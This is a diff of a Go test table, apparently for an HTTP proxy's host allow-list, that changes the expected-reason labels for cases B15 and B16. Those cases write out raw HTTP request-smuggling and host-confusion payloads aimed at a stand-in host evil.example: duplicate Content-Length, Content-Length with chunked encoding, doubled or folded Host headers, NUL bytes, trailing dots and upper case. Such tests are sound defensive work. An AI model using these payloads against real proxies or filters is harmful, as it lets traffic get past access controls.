@@ -65,17 +65,17 @@ func hostRows() map[string][]attack {
 
 // requestRows are those of what is said there.
 func requestRows() map[string][]attack {
-	host, path, broken := because("the request is for host"), because("the rule allows"), because("not a whole HTTP request")
+	host, path := because("the request is for host"), because("the rule allows")
 	return map[string][]attack{
 		"B15": {
-			{what: "two lengths", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 4\nContent-Length: 60", f"abcdGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), line: broken},
-			{what: "length and chunks", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 90\nTransfer-Encoding: chunked", f"0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), arrives: "GET /", line: host},
-			{what: "two hosts", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nHost: evil.example")`), line: broken},
+			{what: "two lengths", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 4\nContent-Length: 60", f"abcdGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), line: because("read in two ways")},
+			{what: "length and chunks", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 90\nTransfer-Encoding: chunked", f"0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), arrives: "GET /", line: because("Content-Length stands beside")},
+			{what: "two hosts", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nHost: evil.example")`), line: because("read in two ways")},
 			{what: "a target beside the host", script: py(rawHTTP, `say(f"GET http://evil.example/{T} HTTP/1.1\nHost: good.example")`), line: because("host")},
-			{what: "a folded field", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nX: a\n\tb\nHost : evil.example")`), line: broken},
+			{what: "a folded field", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nX: a\n\tb\nHost : evil.example")`), line: because("read in two ways")},
 		},
 		"B16": {
-			{what: "a NUL in a server name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\0.evil.example")`), line: broken},
+			{what: "a NUL in a server name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\0.evil.example")`), line: because("read in two ways")},
 			{what: "a final dot", script: curl + "http://evil.example./$1", line: question("evil.example")},
 			{what: "a final dot of an allowed name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example.")`), line: host},
 			{what: "upper case", script: curl + "http://EVIL.Example/$1", line: question("evil.example"), honest: curl + "http://GOOD.Example/$1"},
